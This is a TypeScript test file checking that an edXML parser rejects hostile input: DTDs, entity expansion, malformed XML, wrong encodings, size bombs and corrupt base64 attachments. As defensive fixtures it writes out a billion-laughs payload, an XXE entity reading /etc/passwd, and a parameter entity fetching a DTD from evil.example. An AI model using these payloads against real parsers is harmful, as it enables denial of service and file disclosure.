/** Hostile input: every attack is refused with a typed error before anything is expanded or fetched. */
import { describe, expect, it } from 'vitest';
import { EDXML_NAMESPACE, parseEdxml, parseStatusMessage } from './index.ts';
import { errorCodeOf, fixtureBuffer, fixtureText, fixtureWith } from './test-fixture.ts';

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE edXML [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<edXML xmlns="${EDXML_NAMESPACE}"><x>&lol9;</x></edXML>`;

function withPrologue(prologue: string, body = fixtureText().replace(/^<\?xml[^>]*>\n/, '')): string {
  return `<?xml version="1.0" encoding="UTF-8"?>\n${prologue}\n${body}`;
}

describe('parseEdxml refuses DTDs and entities', () => {
  it('billion laughs', () => {
    expect(errorCodeOf(() => parseEdxml(BILLION_LAUGHS))).toBe('ENTITY_FORBIDDEN');
  });

  it('external entity (XXE) naming a local file, without echoing its content', () => {
    const xxe = withPrologue('<!DOCTYPE edXML [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>').replace(
      '<edXML:Subject>',
      '<edXML:Subject>&xxe;',
    );
    expect(errorCodeOf(() => parseEdxml(xxe))).toBe('ENTITY_FORBIDDEN');
    expect(() => parseEdxml(xxe)).toThrowError(/^Tệp edXML không hợp lệ: không chấp nhận khai báo thực thể/);
    expect(() => parseEdxml(xxe)).not.toThrowError(/root:/);
  });

  it('parameter entity in an otherwise harmless-looking DTD, also as a Buffer', () => {
    const text = withPrologue('<!DOCTYPE edXML [ <!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote; ]>');
    expect(errorCodeOf(() => parseEdxml(Buffer.from(text)))).toBe('ENTITY_FORBIDDEN');
  });

  it.each([
    ['a bare DOCTYPE', '<!DOCTYPE edXML>'],
    ['an external DTD', '<!DOCTYPE edXML SYSTEM "file:///etc/passwd">'],
    ['a lower-case doctype', '<!doctype edXML>'],
    ['an empty internal subset', '<!DOCTYPE edXML []>'],
  ])('%s', (_case, prologue) => {
    expect(errorCodeOf(() => parseEdxml(withPrologue(prologue)))).toBe('DOCTYPE_FORBIDDEN');
  });

  it('an entity reference that only a DTD could have defined', () => {
    expect(errorCodeOf(() => parseEdxml(fixtureWith('<edXML:Subject>', '<edXML:Subject>&xxe;')))).toBe('MALFORMED_XML');
  });

  it('the status parser applies the same guard', () => {
    expect(errorCodeOf(() => parseStatusMessage(BILLION_LAUGHS))).toBe('ENTITY_FORBIDDEN');
  });
});

describe('parseEdxml refuses malformed or foreign XML', () => {
  it.each([
    ['a truncated file', fixtureText().slice(0, 2000)],
    ['a mismatched closing tag', fixtureWith('</edXML:Subject>', '</edXML:Subjet>')],
    ['an unescaped ampersand', fixtureWith('Hà Nội</edXML:Place>', 'Hà Nội & Huế</edXML:Place>')],
    ['two root elements', `${fixtureText()}<edXML xmlns="${EDXML_NAMESPACE}"/>`],
    ['an undeclared prefix', fixtureWith('<edXML:Subject>', '<foo:Bar/><edXML:Subject>')],
    ['plain text', 'Đây không phải XML'],
    ['an empty input', ''],
    ['a NUL character', fixtureWith('<edXML:Subject>', '<edXML:Subject>\u0000')],
    [
      'nesting deep enough to exhaust a naive recursive parser',
      `<edXML xmlns="${EDXML_NAMESPACE}">${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}</edXML>`,
    ],
  ])('%s → MALFORMED_XML', (_case, text) => {
    expect(errorCodeOf(() => parseEdxml(text))).toBe('MALFORMED_XML');
  });

  it('XML that is not edXML', () => {
    expect(errorCodeOf(() => parseEdxml('<?xml version="1.0"?><note><to>Tove</to></note>'))).toBe('NOT_EDXML');
  });

  it('an edXML root in the wrong namespace', () => {
    const text = fixtureWith(
      '<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016">',
      '<edXML xmlns="http://example.com/fake">',
    );
    expect(errorCodeOf(() => parseEdxml(text))).toBe('NOT_EDXML');
    expect(() => parseEdxml(text)).toThrowError(/phần tử gốc phải là edXML/);
  });

  it('bytes that are not UTF-8, UTF-16, or another declared encoding', () => {
    const latin1 = Buffer.from(fixtureText().replace('Hà Nội', 'H\u00e0 N\u1ed9i'), 'latin1');
    expect(errorCodeOf(() => parseEdxml(latin1))).toBe('INVALID_ENCODING');
    const declared = fixtureText().replace('encoding="UTF-8"', 'encoding="ISO-8859-1"');
    expect(errorCodeOf(() => parseEdxml(declared))).toBe('INVALID_ENCODING');
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(fixtureText(), 'utf16le')]);
    expect(errorCodeOf(() => parseEdxml(utf16))).toBe('INVALID_ENCODING');
  });
});

describe('parseEdxml enforces size limits', () => {
  it('refuses input above maxBytes before decoding it', () => {
    expect(errorCodeOf(() => parseEdxml(fixtureBuffer(), { maxBytes: 1024 }))).toBe('TOO_LARGE');
  });

  it('has a 20 MB default cap', () => {
    const oversize = Buffer.alloc(20 * 1024 * 1024 + 1, 0x20);
    expect(errorCodeOf(() => parseEdxml(oversize))).toBe('TOO_LARGE');
  });

  it('bounds the work, not just the bytes: element, attribute and reference bombs', () => {
    const wrap = (inner: string) => `<edXML xmlns="${EDXML_NAMESPACE}">${inner}</edXML>`;
    expect(errorCodeOf(() => parseEdxml(wrap('<a/>'.repeat(60_000))))).toBe('TOO_LARGE');
    expect(
      errorCodeOf(() => parseEdxml(wrap(`<a ${Array.from({ length: 25_000 }, (_, i) => `x${i}="1"`).join(' ')}/>`))),
    ).toBe('TOO_LARGE');
    expect(errorCodeOf(() => parseEdxml(wrap(`<a>${'&amp;'.repeat(250_000)}</a>`)))).toBe('TOO_LARGE');
  });

  it('refuses an attachment above maxAttachmentBytes', () => {
    expect(errorCodeOf(() => parseEdxml(fixtureBuffer(), { maxAttachmentBytes: 16 }))).toBe('ATTACHMENT_TOO_LARGE');
  });
});

describe('parseEdxml refuses corrupt attachments', () => {
  it.each([
    ['characters outside the alphabet', 'Tm9pIGR1bmcg@@@nb3ZhbiAy'],
    ['a length that is not a multiple of 4', 'Tm9pIGR1bmcgY29uZyB2YW4gMjE3NC1DVi9IVkNUUUcgKGJhbiBkaWVuIHR1KS4'],
    ['padding in the middle', 'Tm9p=GR1bmcgY29uZyB2YW4gMjE3NC1DVi9IVkNUUUcgKGJhbiBkaWVuIHR1KS4K'],
  ])('invalid base64: %s', (_case, payload) => {
    const text = fixtureWith(/Tm9pIGR1bmcgY29uZyB2YW4gMjE3NC1DVi9IVkNUUUcgKGJhbiBkaWVuIHR1KS4K/, payload);
    expect(errorCodeOf(() => parseEdxml(text))).toBe('INVALID_BASE64');
  });

  it('accepts base64 wrapped over several lines', () => {
    const text = fixtureWith('Tm9pIGR1bmcgY29uZyB2YW4gMjE3NC1D', 'Tm9pIGR1bmcg\n  Y29uZyB2YW4gMjE3NC1D');
    expect(parseEdxml(text).attachments[0]?.data.toString()).toContain('2174-CV/HVCTQG');
  });
});
